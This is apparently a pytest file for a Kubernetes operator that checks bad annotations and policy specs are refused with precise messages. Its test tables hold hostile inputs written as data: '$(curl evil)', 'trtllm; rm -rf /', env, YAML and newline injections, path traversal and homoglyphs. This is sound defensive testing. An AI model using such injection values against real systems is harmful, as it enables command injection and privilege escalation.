"""Bad input, against the real apiserver and one operator process: every case gets a precise refusal.

Policies are refused by the CRD's schema and CEL rules (the apiserver's message is asserted).
Annotations (and policies the schema cannot judge) are refused by the operator with a Warning
Event on the workload naming the field; the workload is left exactly as the user wrote it.
All workloads of the table are created at once and checked together, so the table costs one wait.
The table is printed (``-s``) and copied into docs/reliability.md.
"""

from __future__ import annotations

import contextlib
import json
import time
from typing import Any

import pytest

from hack.localcluster import LocalCluster
from hack.polling import WaitTimedOut
from hack.workloads import apply, get, trtllm_deployment, wait_for
from kvoffload import contract as c
from tests.support.operator_support import OperatorProcess, events_for, template

pytestmark = [pytest.mark.reliability, pytest.mark.controlplane]

LONG = "9" * 300 + "Gi"

# (case id, annotations besides enabled=true, text the Warning Event must contain)
BAD_ANNOTATIONS: list[tuple[str, dict[str, str], str]] = [
    ("size-wrong-unit-GB", {c.ANN_CPU_CACHE_SIZE: "20GB"}, c.ANN_CPU_CACHE_SIZE),
    ("size-negative", {c.ANN_CPU_CACHE_SIZE: "-4Gi"}, c.ANN_CPU_CACHE_SIZE),
    ("size-zero", {c.ANN_CPU_CACHE_SIZE: "0"}, c.ANN_CPU_CACHE_SIZE),
    ("size-tiny", {c.ANN_CPU_CACHE_SIZE: "1Ki"}, "from 64Mi to 1Pi"),
    ("enabled-uppercase", {c.ANN_ENABLED: "TRUE"}, '"true" or "false"'),
    ("size-with-space", {c.ANN_CPU_CACHE_SIZE: "20 Gi"}, c.ANN_CPU_CACHE_SIZE),
    ("size-millibytes", {c.ANN_CPU_CACHE_SIZE: "1500m"}, c.ANN_CPU_CACHE_SIZE),
    ("size-oversized", {c.ANN_CPU_CACHE_SIZE: LONG}, c.ANN_CPU_CACHE_SIZE),
    ("size-yaml-injection", {c.ANN_CPU_CACHE_SIZE: "4Gi\nprivileged: true"}, c.ANN_CPU_CACHE_SIZE),
    ("shm-flag-injection", {c.ANN_SHM_SIZE: "1Gi --privileged"}, c.ANN_SHM_SIZE),
    ("shm-unicode-digits", {c.ANN_SHM_SIZE: "\u0664Gi"}, c.ANN_SHM_SIZE),
    ("mode-unknown", {c.ANN_MODE: "turbo"}, c.ANN_MODE),
    ("mode-node-without-policy", {c.ANN_MODE: "node"}, c.ANN_MODE),
    ("mode-trailing-newline", {c.ANN_MODE: "sidecar\n"}, c.ANN_MODE),
    ("mode-case", {c.ANN_MODE: "Sidecar"}, c.ANN_MODE),
    ("backend-unknown", {c.ANN_BACKEND: "remote"}, c.ANN_BACKEND),
    ("backend-env-injection", {c.ANN_BACKEND: "sidecar\nKVOFFLOAD_SERVER_URL=tcp://evil:1"}, c.ANN_BACKEND),
    ("backend-shell", {c.ANN_BACKEND: "$(curl evil)"}, c.ANN_BACKEND),
    ("source-url", {c.ANN_CONNECTOR_SOURCE: "https://evil.example/connector.tar"}, c.ANN_CONNECTOR_SOURCE),
    ("container-shell", {c.ANN_CONTAINER: "trtllm; rm -rf /"}, c.ANN_CONTAINER),
    ("container-uppercase", {c.ANN_CONTAINER: "TRTLLM"}, c.ANN_CONTAINER),
    ("container-unicode", {c.ANN_CONTAINER: "trtllm\u200b"}, c.ANN_CONTAINER),
    ("container-absent", {c.ANN_CONTAINER: "nope"}, c.ANN_CONTAINER),
    ("container-is-ours", {c.ANN_CONTAINER: c.SIDECAR_CONTAINER}, c.ANN_CONTAINER),
    ("enabled-yes", {c.ANN_ENABLED: "yes"}, c.ANN_ENABLED),
    ("enabled-homoglyph", {c.ANN_ENABLED: "tru\u0435"}, c.ANN_ENABLED),
    ("enabled-flag", {c.ANN_ENABLED: "true --debug"}, c.ANN_ENABLED),
    ("policy-path-traversal", {c.ANN_POLICY: "../kube-system/p"}, c.ANN_POLICY),
    ("policy-newline", {c.ANN_POLICY: "p\nkind: Secret"}, c.ANN_POLICY),
    ("policy-missing", {c.ANN_POLICY: "does-not-exist"}, c.ANN_POLICY),
    ("policy-oversized", {c.ANN_POLICY: "p" * 300}, c.ANN_POLICY),
]

# Policies the schema accepts but the operator must refuse: (case, spec, text in the Event).
OPERATOR_POLICIES: list[tuple[str, dict[str, Any], str]] = [
    ("policy-lookup-over-default-retrieve", {"connector": {"lookupTimeoutMs": 6000}}, "at most retrieveTimeoutMs"),
    ("policy-l1-no-gpu-node-holds", {"cache": {"l1Size": "600Gi"}}, "largest GPU node allocates 512Gi"),
    ("policy-resources-garbage", {"sidecar": {"resources": {"limits": {"memory": "lots"}}}}, "sidecar.resources"),
    ("policy-resources-not-resources", {"sidecar": {"resources": {"privileged": True}}}, "sidecar.resources"),
    ("policy-chunk-not-whole-blocks", {"cache": {"chunkSize": 48}}, "tokens_per_block, 32"),
]  # fmt: skip

# (case, spec, text of the apiserver's refusal)
BAD_POLICIES: list[tuple[str, dict[str, Any], str]] = [
    (
        "secret-name-invalid",
        {"l2": {"redis": {"url": "redis://r:6379", "passwordSecretRef": {"name": "Bad_Name!", "key": "pw"}}}},
        "should match",
    ),
    ("fs-size-millibytes", {"l2": {"fs": {"path": "/l2", "size": "1500m"}}}, "should match"),
    ("fs-path-dotdot", {"l2": {"fs": {"path": "/var/../etc", "size": "1Gi"}}}, "must not hold a '..' part"),
    ("fs-path-dev-shm", {"l2": {"fs": {"path": "/dev/shm", "size": "1Gi"}}}, "one of kvoffload's mounts"),
    ("fs-path-run-dir", {"l2": {"fs": {"path": "/var/run/kvoffload", "size": "1Gi"}}}, "one of kvoffload's mounts"),
    ("fs-path-root", {"l2": {"fs": {"path": "/", "size": "1Gi"}}}, "must not be /, a system directory"),
    ("fs-path-etc", {"l2": {"fs": {"path": "/etc", "size": "1Gi"}}}, "must not be /, a system directory"),
    ("fs-path-proc-self", {"l2": {"fs": {"path": "/proc/self", "size": "1Gi"}}}, "nor lie inside one"),
    ("fs-path-holds-run-dir", {"l2": {"fs": {"path": "/var", "size": "1Gi"}}}, "must not hold one of kvoffload's"),
    ("fs-path-trailing-slash", {"l2": {"fs": {"path": "/dev/shm/", "size": "1Gi"}}}, "written plainly"),
    ("l1-negative", {"cache": {"l1Size": "-1Gi"}}, "l1Size must be a quantity"),
    ("l1-wrong-unit", {"cache": {"l1Size": "20GB"}}, "l1Size must be a quantity"),
    ("l1-oversized", {"cache": {"l1Size": "2Pi"}}, "at most 1Pi"),
    ("l1-tiny", {"cache": {"l1Size": "1Ki"}}, "at least 64Mi"),
    ("l1-too-long", {"cache": {"l1Size": "1" * 40}}, "Too long"),
    ("l1-yaml-injection", {"cache": {"l1Size": "4Gi\nmode: node"}}, "l1Size must be a quantity"),
    ("shm-zero", {"shmSize": "0"}, "shmSize must be a quantity"),
    ("mode-unknown", {"mode": "turbo"}, "Unsupported value"),
    ("chunk-not-multiple", {"cache": {"chunkSize": 100}}, "multiple of 16"),
    ("chunk-negative", {"cache": {"chunkSize": -16}}, "greater than or equal to 16"),
    ("chunk-string", {"cache": {"chunkSize": "256"}}, "must be of type integer"),
    ("workers-huge", {"cache": {"maxWorkers": 100000}}, "less than or equal to 64"),
    ("eviction-unknown", {"cache": {"evictionPolicy": "FIFO"}}, "Unsupported value"),
    ("redis-http-url", {"l2": {"redis": {"url": "http://redis:6379"}}}, "must be redis://[user@]host[:port][/0]"),
    ("redis-tls", {"l2": {"redis": {"url": "rediss://redis:6380"}}}, "must be redis://[user@]host[:port][/0]"),
    ("redis-db1", {"l2": {"redis": {"url": "redis://redis:6379/1"}}}, "must be redis://[user@]host[:port][/0]"),
    ("redis-password-in-url", {"l2": {"redis": {"url": "redis://u:hunter2@redis:6379"}}}, "passwordSecretRef"),
    ("redis-url-oversized", {"l2": {"redis": {"url": "redis://" + "a" * 3000}}}, "Too long"),
    ("fs-relative-path", {"l2": {"fs": {"path": "../etc", "size": "1Gi"}}}, "absolute path"),
    ("fs-no-size", {"l2": {"fs": {"path": "/l2"}}}, "Required value"),
    ("runtimeclass-bad", {"sidecar": {"runtimeClassName": "Nvidia_Runtime"}}, "DNS-1123"),
    ("gpu-access-privileged", {"sidecar": {"gpuAccess": "privileged"}}, "Unsupported value"),
    ("pull-policy-unknown", {"sidecar": {"imagePullPolicy": "Sometimes"}}, "Unsupported value"),
    ("image-empty", {"sidecar": {"image": ""}}, "should be at least 1 chars long"),
    ("image-whitespace", {"sidecar": {"image": " registry.example/evil:1 --privileged"}}, "should match"),
    ("bundle-image-newline", {"connector": {"bundleImage": "reg.example/b:1\nprivileged: true"}}, "should match"),
    ("timeouts-inverted", {"connector": {"lookupTimeoutMs": 9000, "retrieveTimeoutMs": 50}}, "must not exceed"),
    ("timeout-huge", {"connector": {"storeTimeoutMs": 10**9}}, "less than or equal to 600000"),
    ("node-inprocess", {"mode": "node", "connector": {"backend": "inprocess"}}, "mode node needs"),
    ("save-decode-string", {"connector": {"saveDecodeTokens": "yes"}}, "must be of type boolean"),
    ("backend-unknown", {"connector": {"backend": "remote"}}, "Unsupported value"),
]


def _policy(name: str, namespace: str, spec: dict[str, Any]) -> dict[str, Any]:
    return {"apiVersion": f"{c.API_GROUP}/{c.API_VERSION}", "kind": c.POLICY_KIND,
            "metadata": {"name": name, "namespace": namespace}, "spec": spec}  # fmt: skip


def test_bad_policies_refused_by_the_apiserver(cluster: LocalCluster, namespace: str, operator_kubeconfig: object
                                               ) -> None:  # fmt: skip
    rows = []
    for case, spec, expected in BAD_POLICIES:
        out = cluster.kubectl("create", "-f", "-", input=json.dumps(_policy(case, namespace, spec)), check=False)
        assert out.returncode != 0, f"{case}: accepted {spec}"
        assert expected in out.stderr, f"{case}: {out.stderr}"
        rows.append((case, next(line for line in out.stderr.splitlines() if expected in line)[-160:]))
    listed = json.loads(cluster.kubectl("get", c.POLICY_PLURAL, "-n", namespace, "-o", "json").stdout)["items"]
    assert listed == []
    for case, message in rows:
        print(f"| policy `{case}` | CRD | {message} |")


def _event_text(cluster: LocalCluster, namespace: str, name: str) -> str:
    return " ".join(e.get("message", "") for e in events_for(cluster, namespace, name, "KvoffloadInvalid"))


def test_bad_annotations_and_policies_get_warning_events_and_untouched_workloads(
    cluster: LocalCluster, namespace: str, running_operator: OperatorProcess
) -> None:
    cases: list[tuple[str, dict[str, str], str]] = list(BAD_ANNOTATIONS)
    for case, spec, expected in OPERATOR_POLICIES:
        apply(cluster, _policy(case, namespace, spec))
        cases.append((case, {c.ANN_POLICY: case}, expected))
    created: dict[str, dict[str, Any]] = {}
    started = time.monotonic()
    for i, (_case, extra, _expected) in enumerate(cases):
        name = f"bad-{i:02d}"
        apply(cluster, trtllm_deployment(name, namespace, annotations={c.ANN_ENABLED: "true", **extra}))
        created[name] = get(cluster, "deployment", name, namespace)

    def all_refused() -> bool:
        return all(_event_text(cluster, namespace, f"bad-{i:02d}") for i in range(len(cases)))

    with contextlib.suppress(WaitTimedOut):  # the ones without an Event are reported below, by case
        wait_for(all_refused, timeout=60, interval=1.0, what="a KvoffloadInvalid Event on every bad workload")
    elapsed = time.monotonic() - started
    time.sleep(2)  # anything the operator would still apply lands now
    failures = []
    for i, (case, _annotations, expected) in enumerate(cases):
        name = f"bad-{i:02d}"
        message = _event_text(cluster, namespace, name)
        if expected not in message:
            failures.append(f"{case}: event {message!r} does not name {expected!r}")
        now = get(cluster, "deployment", name, namespace)
        if template(now) != template(created[name]) or now["metadata"]["generation"] != 1:
            failures.append(f"{case}: workload changed")
        if any(m.get("manager") == c.FIELD_MANAGER for m in now["metadata"].get("managedFields", [])):
            failures.append(f"{case}: the operator owns fields of the workload")
        print(f"| annotation/policy `{case}` | Warning Event | {message[:160]} |")
    assert not failures, "\n".join(failures) + "\n" + running_operator.log()[-3000:]
    assert len(cases) >= 30
    print(f"{len(cases)} workloads refused within {elapsed:.1f} s")
